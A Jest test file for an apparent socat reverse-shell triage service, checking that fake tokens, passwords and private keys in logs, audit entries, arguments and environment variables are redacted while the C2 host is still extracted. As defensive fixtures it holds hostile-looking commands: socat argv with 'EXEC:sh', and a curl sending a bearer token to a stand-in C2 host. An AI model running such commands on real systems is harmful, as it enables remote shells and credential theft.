/**
 * Secrets never leave through us. A corpus of FAKE secrets — bearer tokens,
 * passwords in URLs, private keys, service-account key JSON, cloud API keys,
 * AWS and GitHub tokens (test/fixtures/secrets) — sits in the pod's and the
 * node's log lines (plain, ANSI-coloured, split by invisible characters), in
 * kubectl exec commands in the audit log, in socat's arguments
 * (test/fixtures/hostile/secrets.json: OPENSSL key=, PROXY proxyauth=, tokens
 * and URL passwords in EXEC/SYSTEM commands; mysql -pPASS, sshpass -p, curl -u,
 * redis-cli -a, signed URLs and prefixed tokens), in its parent's argv (a flag
 * and its value as separate elements) and in the processes' environment
 * variables. After a full triage against the emulators, none of them appears
 * in the report, the enrichment finding, the marks, the fan-out message or
 * our log lines — while the C2 endpoint is still read from those arguments
 * and the runbook's commands still carry the exact values they need.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseNotification } from '../../lib/finding/parse.js';
import { redactArgv } from '../../lib/redact.js';
import type { TriagedReport } from '../../lib/report/types.js';
import { loadJson, notificationFixture, projectRoot, pubsubBody } from '../support/fixtures.js';
import { runWithStandIns } from '../support/recording-shell.js';
import { auditEntry, CLUSTER, LOCATION, PROJECT } from '../support/world.js';
import { intendedInvocation } from './intended-argv.js';
import { recordFigures, stringsIn } from './support.js';
import { handleDelivery } from './under-test.js';
import { enrichmentsOf, FANOUT_TOPIC, freshOriginal, leastPrivilegeAudit, startHostileWorld, type HostileWorld } from './world-harness.js';

interface ArgumentCase {
  label: string;
  argv: string[];
  secrets: string[];
  c2: { host: string; port: number };
}

const SECRETS_DIR = join(projectRoot(), 'test/fixtures/secrets');
const LOG_CASES = loadJson<{ cases: Array<{ kind: string; secret: string; line: string }> }>('test/fixtures/secrets/corpus.json').cases;
const PEM = readFileSync(join(SECRETS_DIR, 'fake-private-key.pem'), 'utf8');
const RSA = readFileSync(join(SECRETS_DIR, 'fake-encrypted-rsa-key.pem'), 'utf8');
const SA_KEY = JSON.parse(readFileSync(join(SECRETS_DIR, 'fake-service-account-key.json'), 'utf8')) as Record<string, string>;
const HOSTILE = loadJson<{ arguments: ArgumentCase[]; parents: Array<{ argv: string[]; secrets: string[] }>; environment: Array<{ name: string; val: string }> }>('test/fixtures/hostile/secrets.json');

/** The parts of a key that must not appear: its body lines (the BEGIN/END lines are no secret). */
function pemBody(pem: string): string[] {
  return pem.split('\n').filter((l) => l.length > 20 && !l.startsWith('-----') && !l.includes(':'));
}

/** Issue 13: a private key's body printed without its BEGIN line (one log entry per line, and joined on one line), and a base64 service-account key. */
const OPENSSL_KEY = /-----BEGIN PRIVATE KEY-----\n([\s\S]*?)-----END/.exec(readFileSync(join(SECRETS_DIR, 'fake-openssl-keys.pem'), 'utf8'))![1]!;
const OPENSSL_KEY_LINES = OPENSSL_KEY.split('\n').filter((l) => l !== '');
const SA_KEY_BASE64 = Buffer.from(readFileSync(join(SECRETS_DIR, 'fake-service-account-key.json'), 'utf8')).toString('base64');

/** Log-line secrets besides the corpus: the PEM, the encrypted RSA key, the service-account key (text and JSON payload), a coloured and a split one, three in audit entries, a key body line by line and joined, a base64 key file. */
const LOG_EXTRAS = 11;
const AUDIT_PASSWORD = 'Audit-Exec-Passw0rd-2718';
const AUDIT_SHORT_PASSWORD = 'Audit-Short-Passw0rd-3141';
const AUDIT_TOKEN = 'AuditExecBearerToken0123456789abcdef';
const LOG_SECRETS: string[] = [
  ...LOG_CASES.map((c) => c.secret),
  ...pemBody(PEM),
  ...pemBody(RSA),
  SA_KEY.private_key_id as string,
  ...pemBody(SA_KEY.private_key as string),
  AUDIT_PASSWORD,
  AUDIT_SHORT_PASSWORD,
  AUDIT_TOKEN,
  ...OPENSSL_KEY_LINES.filter((l) => l.length === 64),
  OPENSSL_KEY_LINES.join(''),
  SA_KEY_BASE64.slice(0, 200),
];
const PROCESS_SECRETS: string[] = [...HOSTILE.parents.flatMap((p) => p.secrets), ...HOSTILE.environment.map((e) => e.val)];
const ALL_SECRETS = [...new Set([...LOG_SECRETS, ...PROCESS_SECRETS, ...HOSTILE.arguments.flatMap((a) => a.secrets)])];

let hw: HostileWorld;
let template: Record<string, any>;
const NS = 'vault';
const POD = 'api-6c9f7d5b8d-r4t7w';

beforeAll(async () => {
  // Every log line is kept whole in the report (50 entries, 4096 chars), so no secret escapes by being cut off.
  hw = await startHostileWorld({ LOG_EXCERPT_ENTRIES: '50', LOG_LINE_MAX_CHARS: '4096', MAX_EVENT_AGE_SECONDS: '3600' });
  template = structuredClone(notificationFixture('socat-v2'));
  template.finding.eventTime = new Date(Date.now() - 120_000).toISOString();
  template.finding.sourceProperties = { ...template.finding.sourceProperties, Pod_Namespace: NS, Pod_Name: POD, Container_Name: 'api' };
  template.finding.kubernetes = { pods: [{ ns: NS, name: POD }] };
  const t = Date.parse(template.finding.eventTime);
  const at = (s: number) => new Date(t + s * 1000).toISOString();
  const podLog = (text: string, i: number, json?: Record<string, unknown>) => ({
    logName: `projects/${PROJECT}/logs/stdout`,
    resource: { type: 'k8s_container', labels: { project_id: PROJECT, location: LOCATION, cluster_name: CLUSTER, namespace_name: NS, pod_name: POD, container_name: 'api' } },
    timestamp: at(-600 + i),
    severity: 'INFO' as const,
    ...(json ? { jsonPayload: json } : { textPayload: text }),
  });
  const lines = [
    ...LOG_CASES.map((c) => c.line),
    `loaded key from secret volume:\n${PEM}`,
    `decrypting ${RSA}`,
    JSON.stringify(SA_KEY),
    // Coloured output and invisible characters must not hide a secret from redaction (and then vanish in cleaning).
    `Authorization: Bearer \u001b[32m${LOG_CASES[0]!.secret}\u001b[0m`,
    `db pass\u200bword=${HOSTILE.environment[0]!.val}`,
    ...OPENSSL_KEY_LINES,
    `key material ${OPENSSL_KEY_LINES.join('')}`,
    `GOOGLE_CREDENTIALS=${SA_KEY_BASE64}`,
  ];
  hw.world.logging.seed([...lines.map((l, i) => podLog(l, i)), podLog('', lines.length, { message: `service account ${JSON.stringify(SA_KEY)}` })]);
  hw.world.logging.seed([
    auditEntry(
      at(-40),
      'io.k8s.core.v1.pods.exec.create',
      `core/v1/namespaces/${NS}/pods/${POD}/exec?command=mysql&command=--password&command=${AUDIT_PASSWORD}&command=-e&command=select%201&container=api`,
      'mallory@example.com',
      '203.0.113.99',
      'kubectl/v1.29.3 (linux/amd64) kubernetes/4b8e819',
    ),
    auditEntry(
      at(-30),
      'io.k8s.core.v1.pods.exec.create',
      `core/v1/namespaces/${NS}/pods/${POD}/exec?command=mysql&command=-uroot&command=-p${AUDIT_SHORT_PASSWORD}&command=orders&container=api`,
      'mallory@example.com',
      '203.0.113.99',
      'kubectl/v1.29.3 (linux/amd64) kubernetes/4b8e819',
    ),
    auditEntry(at(-20), 'io.k8s.core.v1.pods.exec.create', `core/v1/namespaces/${NS}/pods/${POD}/exec`, 'mallory@example.com', '203.0.113.99', 'kubectl/v1.29.3 (linux/amd64) kubernetes/4b8e819', {
      command: ['curl', '-H', `Authorization: Bearer ${AUDIT_TOKEN}`, 'https://c2.example/'],
    }),
  ]);
}, 60_000);

afterAll(async () => {
  await hw?.stop();
});

/** Where each secret showed up: [secret, place] pairs (empty when none leaked). */
function leaks(places: Record<string, unknown>, secrets: readonly string[]): Array<[string, string]> {
  const found: Array<[string, string]> = [];
  for (const [place, value] of Object.entries(places)) {
    for (const [path, text] of stringsIn(value)) {
      for (const s of secrets) if (text.includes(s)) found.push([s.slice(0, 24), `${place} ${path}`]);
    }
  }
  return found;
}

let triages = 0;
const checkedPlaces = new Set<string>();

describe('secrets in logs, arguments and the environment', () => {
  it.each(HOSTILE.arguments.map((c) => [c.label, c] as const))('%s: no secret in the report, the finding, the marks, the fan-out or our logs; C2 and commands intact', async (_label, c) => {
    const n = freshOriginal(hw.world, template, 'secret');
    const [parent, socat] = n.finding.processes as [Record<string, any>, Record<string, any>];
    parent.args = HOSTILE.parents[triages % HOSTILE.parents.length]!.argv;
    socat.args = c.argv;
    for (const p of [parent, socat]) p.envVariables = HOSTILE.environment;
    const logsBefore = hw.logLines.length;
    const publishedBefore = hw.pubsub.published(FANOUT_TOPIC).length;
    const result = await handleDelivery(pubsubBody(n), hw.instance());
    triages += 1;
    expect(result.outcome).toBe('triaged');
    const report = result.report as TriagedReport;
    const [stored] = enrichmentsOf(hw.world, n.finding.name);
    const places = {
      report,
      'enrichment finding': stored,
      marks: hw.world.scc.getMarks(n.finding.name),
      'fan-out message': hw.pubsub.published(FANOUT_TOPIC).slice(publishedBefore).map((m) => JSON.parse(m.data.toString('utf8'))),
      'our log lines': hw.logLines.slice(logsBefore),
    };
    for (const p of Object.keys(places)) checkedPlaces.add(p);
    expect(leaks(places, [...ALL_SECRETS, ...c.secrets])).toEqual([]);

    // The evidence is there, with the secrets marked as redacted rather than silently dropped.
    expect(report.logs.pod?.count).toBeGreaterThanOrEqual(LOG_CASES.length);
    expect(JSON.stringify(report.logs.pod)).toContain('[REDACTED:');
    expect(JSON.stringify(report.process.args)).toContain('[REDACTED:');
    expect(report.logs.audit?.execs.length).toBe(3);
    // Where a command line shows most plainly (issue 13): the description, B1 (the C2 in words) and B7 (the program).
    expect(stored).toBeDefined();
    const props = stored!.sourceProperties as Record<string, { stringValue?: string }>;
    for (const shown of [stored!.description, props.B1_C2?.stringValue, props.B7_C2_Program?.stringValue, report.c2.program]) {
      for (const secret of c.secrets) expect(String(shown)).not.toContain(secret);
    }
    if (report.c2.program !== null && c.secrets.some((x) => c.argv.at(-1)!.includes(x))) expect(props.B7_C2_Program?.stringValue).toContain('[REDACTED:');
    // The C2 is still read from the raw arguments.
    expect({ host: report.c2.host, port: report.c2.port }).toEqual(c.c2);
    // Commands that need exact values still have them: the binary is copied from its real path.
    const finding = parseNotification(n);
    const copy = report.runbook.steps.find((s) => s.id === 'copy_binary')!.command!;
    const run = await runWithStandIns(copy);
    expect(run.invocations.map((i) => ({ program: i.program, argv: i.argv }))).toEqual([intendedInvocation('copy_binary', finding, report.pod)]);
    expect(copy).toContain(socat.binary.path);
  });

  it('tried every secret in every place', () => {
    expect(triages).toBe(HOSTILE.arguments.length);
    expect([...checkedPlaces].sort()).toEqual(['enrichment finding', 'fan-out message', 'marks', 'our log lines', 'report']);
    // Secrets counted as items (a PEM key is one, however many body lines are searched for).
    const inLogs = LOG_CASES.length + LOG_EXTRAS;
    const inArguments = HOSTILE.arguments.flatMap((a) => a.secrets).length + HOSTILE.parents.flatMap((p) => p.secrets).length;
    recordFigures('secrets', {
      secretsTried: inLogs + inArguments + HOSTILE.environment.length,
      secretsInLogLines: inLogs,
      secretsInArguments: inArguments,
      secretsInEnvironment: HOSTILE.environment.length,
      secretSubstringsSearched: ALL_SECRETS.length,
      secretTriages: triages,
    });
  });

  it('made no write to Kubernetes or GKE and no SCC write but our finding and the socat_triage_* marks (request logs)', () => {
    const audit = leastPrivilegeAudit(hw);
    expect(audit.violations).toEqual([]);
    expect(audit.calls).toBeGreaterThan(20);
    recordFigures('secrets', { secretCallsAudited: audit.calls });
  });
});

describe('redactArgv: what only an argv shows', () => {
  it.each([
    ['an OPENSSL key= option', ['socat', 'OPENSSL:h:443,verify=0,KEY=inline-key-material', 'EXEC:sh'], 'inline-key-material', 'OPENSSL:h:443,verify=0,KEY=[REDACTED:private-key]'],
    ['proxyauth up to a dual-address !!, a single ! inside', ['socat', 'PROXY:p:h:443,proxyauth=u:pa!ss!!TCP:10.0.0.1:80', 'EXEC:sh'], 'pa!ss', 'PROXY:p:h:443,proxyauth=[REDACTED:password]!!TCP:10.0.0.1:80'],
    ['a secret flag and its value as separate arguments', ['mysql', '--password', 'Separate-1234', '-h', 'db'], 'Separate-1234', '[REDACTED:password]'],
  ])('%s', (_name, argv, secret, shown) => {
    const out = redactArgv(argv);
    expect(out).toHaveLength(argv.length);
    expect(out.join('\u0000')).not.toContain(secret);
    expect(out).toContain(shown);
  });

  it('leaves flags that name no secret, placeholders and plain arguments alone', () => {
    for (const argv of [['ls', '--password-file', '/etc/x'], ['agent', '--token', 'null'], ['socat', 'TCP:10.0.0.1:443,keepalive', 'EXEC:sh,pty']]) {
      expect(redactArgv(argv)).toEqual(argv);
    }
  });
});

